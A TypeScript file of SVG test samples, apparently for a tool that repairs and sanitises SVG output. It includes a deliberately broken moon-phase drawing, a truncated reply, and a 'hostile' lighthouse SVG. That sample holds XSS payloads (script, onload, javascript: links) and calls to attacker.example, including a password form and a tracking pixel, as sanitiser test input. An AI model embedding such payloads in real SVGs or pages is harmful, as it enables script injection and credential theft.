import { WATER_CYCLE } from "./water-cycle.ts";

export interface Sample {
  id: string;
  name: string;
  /** What is to be seen in it. */
  about: string;
  text: string;
  /** The whole reply of a sample that is cut off, for its continuation. */
  whole?: string;
}

const DAMAGED = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY moon "Moon">]>
<svg viewbox="0 0 640 400">
  <tittle>Why the moon has phases</tittle>
  <desc>Half of the moon is always lit; we see more or less of that half.</desc>
  <style>
    .orbit { fill: none; stroke: #8fa3b8; stroke-dasharray: 4 6; animation: march 3s linear infinite }
    @keyframes march { to { stroke-dashoffset: -20 } }
    .broken { fill: }
  </style>
  <rect width="640" height="400" fill="#101b2d"/>
  <circle cx=560 cy=200 r=300 fill="#f7d774" opacity=".08"/>
  <circle cx=640 cy=200 r=90 fill='#f7d774'>
  <circle class="orbit" cx="270" cy="200" r="130"/>
  <g id="earth">
    <circle cx="270" cy="200" r="46" fill=#3d86b8/>
    <path d="M240 180 q 20 -24 44 -10 q -6 20 10 30 q -30 26 -54 -20 zz" fill="#79b37a"/>
    <text x="270" y="272" text-anchor="middle" fill="#e8eef5" font-size="17">Earth & sea</text>
  <g id="earth">
    <circl cx="400" cy="200" r="20" fill="#dfe4ea"/>
    <path d="M400 180 a20 20 0 0 0 0 40 z" fill="#4a5565"/>
    <text x="400" y="244" text-anchor="middle" fill="#e8eef5" font-size="15">New &moon;</text>
    <circle cx="140" cy="200" r="20" fill="#f6f1dc"/>
    <text x="140" y="244" text-anchor="middle" fill="#e8eef5" font-size="15">Full moon</txt>
    <circle cx="270" cy="70" r="20" fill="#4a5565"/>
    <path d="M270 50 a20 20 0 0 1 0 40 z" fill="#f6f1dc"/>
    <text x="270" y="36" text-anchor="middle" fill="#e8eef5" font-size="15">Half < full</text>
    <circle cx="270" cy="330" r="20" fill="#4a5565"/>
    <path d="M270 310 a20 20 0 0 1 0 40 z" fill="#f6f1dc"/>
    <text x="270" y="376" text-anchor="middle" fill="#e8eef5" font-size="15">Half again</text>
  </g>
  <text x="598" y="206" fill="#5a4410" font-size="18" text-anchor="middle">Sun&nbsp;light</text>
</svg`;

const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 640 400" onload="alert(1)">
  <title>A lighthouse</title>
  <desc>A lighthouse on a rock at night. The text holds attacks; none of them may reach the page.</desc>
  <script>alert(document.cookie)</script>
  <style>
    @import url("https://attacker.example/a.css");
    @font-face { font-family: x; src: url(https://attacker.example/x.woff) }
    .beam { animation: sweep 4s ease-in-out infinite alternate; transform-origin: 320px 120px }
    @keyframes sweep { from { transform: rotate(-6deg) } to { transform: rotate(8deg) } }
    body, #content { display: none !important }
    rect { position: fixed; background: url(https://attacker.example/pixel) }
  </style>
  <rect width="640" height="400" fill="#14213a"/>
  <path class="beam" d="M320 120L640 40V200Z" fill="#ffe9a8" opacity=".55"/>
  <foreignObject width="640" height="400"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://attacker.example"><input name="password"></form></body></foreignObject>
  <a xlink:href="javascript:alert(2)"><path d="M0 330Q160 290 320 318T640 310V400H0Z" fill="#2a4a6a" onclick="alert(3)"/></a>
  <path d="M296 320L304 130H336L344 320Z" fill="#f3ede0"/>
  <path d="M300 220H340L342 260H298Z" fill="#b5452f"/>
  <rect x="300" y="104" width="40" height="28" fill="#ffe9a8"/>
  <path d="M292 104L320 78L348 104Z" fill="#b5452f"/>
  <image href="https://attacker.example/track.png" width="1" height="1"/>
  <use href="https://attacker.example/sprite.svg#x"/>
  <path d="M0 352Q160 330 320 350T640 344V400H0Z" fill="#1c3552">
    <animate attributeName="href" values="javascript:alert(4)" begin="0s"/>
    <set attributeName="onclick" to="alert(5)"/>
    <animate attributeName="opacity" values="1;.7;1" dur="4s" repeatCount="indefinite"/>
  </path>
  <circle cx="90" cy="70" r="26" fill="#f6f1dc" style="background:url(javascript:alert(6));cursor:url(https://attacker.example/c),auto"/>
  <text x="380" y="300" fill="#e8eef5" font-size="18">Rock</text>
  <text x="356" y="84" fill="#e8eef5" font-size="18">Lamp</text>
  <text x="130" y="76" fill="#e8eef5" font-size="18">Moon</text>
  <iframe src="https://attacker.example"></iframe>
</svg>`;

/** Cut in the middle of a tag, as a reply is when its tokens run out. */
const CUT = WATER_CYCLE.slice(0, WATER_CYCLE.indexOf('<g class="drift near">') + 68);

export const SAMPLES: readonly Sample[] = [
  {
    id: "good",
    name: "Good",
    about: "The water cycle: labels, sheets, timed animations.",
    text: WATER_CYCLE,
  },
  {
    id: "damaged",
    name: "Damaged",
    about: "Unclosed, unquoted, misspelt, cut off at the last character. It is repaired on the way.",
    text: DAMAGED,
  },
  {
    id: "hostile",
    name: "Hostile",
    about: "Scripts, outside addresses, handlers. What is left is only a lighthouse.",
    text: HOSTILE,
  },
  {
    id: "cut",
    name: "Cut off",
    about: "The reply ends inside a tag. It can be continued from the last whole element.",
    text: CUT,
    whole: WATER_CYCLE,
  },
];
